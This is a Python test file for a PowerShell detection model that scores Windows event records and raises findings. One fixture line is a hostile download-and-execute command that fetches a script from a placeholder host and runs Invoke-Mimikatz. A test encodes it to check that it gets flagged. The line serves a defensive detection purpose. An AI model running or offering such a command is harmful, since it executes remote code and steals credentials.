"""The shipped models in the pipeline: from Windows events to findings."""

import base64
import json

import pytest

from wheeltapper import workspace
from wheeltapper.engines.local import powershell

LINE = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a'); Invoke-Mimikatz"
THRESHOLDS = (0.0, 2.0, 4.0)


def test_bits_rise_with_the_score_and_are_those_of_the_thresholds():
    scores = [-1.0, 0.0, 1.0, 2.0, 3.0, 4.0, 9.0]
    worth = [powershell.bits(score, THRESHOLDS) for score in scores]
    assert worth == sorted(worth)
    assert [round(b, 2) for b in worth] == [0.0, 1.32, 2.98, 4.64, 6.3, 7.97, 14.0]


def test_all_ways_to_write_a_command_have_one_form():
    judged = powershell.judge(["Get-Date;  $a = 1", "get-date; $b=2"])
    assert judged[0].form == judged[1].form
    json.dumps(judged[0].evidence)


def test_a_command_line_that_only_starts_the_shell_is_worth_nothing():
    lines = ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', "pwsh"]
    assert [one.bits for one in powershell.judge(lines)] == [0.0, 0.0]


def record(number, text, event=4104):
    return {
        "EventID": event,
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Computer": "ws1.example",
        "TimeCreated": f"2026-03-0{number}T09:00:00Z",
        "EventTime": f"2026-03-0{number} 09:00:00",
        "@timestamp": f"2026-03-0{number}T09:00:00.000Z",
        "SourceName": "Microsoft-Windows-PowerShell",
        "AccountName": "ana",
        "Domain": "EXAMPLE",
        "ScriptBlockText": text,
        "ScriptBlockId": f"b{number}",
        "MessageNumber": "1",
        "MessageTotal": "1",
    }


@pytest.mark.parametrize("on", [True, False])
def test_from_events_to_findings_where_it_is_switched_on(tmp_path, on):
    packed = base64.b64encode(LINE.encode("utf-16-le")).decode()
    records = [record(2, "Get-Date"), record(3, f"powershell -enc {packed}")]
    log = tmp_path / "events.ndjson"
    log.write_text("\n".join(map(json.dumps, records)))
    ws = workspace.init(tmp_path / "work")
    if on:
        settings = ws.root / "wheeltapper.toml"
        settings.write_text(settings.read_text().replace("[detect]", "[detect]\npowershell = true"))
        ws = workspace.open(ws.root)
    assert ws.ingest(log, source="windows").rejected == 0
    ws.detect()
    findings = ws.findings(detector="model.powershell").to_dicts()
    assert [f["entity"] for f in findings] == ["ana"] * on
    if on:
        assert "T1105" in findings[0]["attack"]
        assert "Invoke-Mimikatz" in str(findings[0]["evidence"])
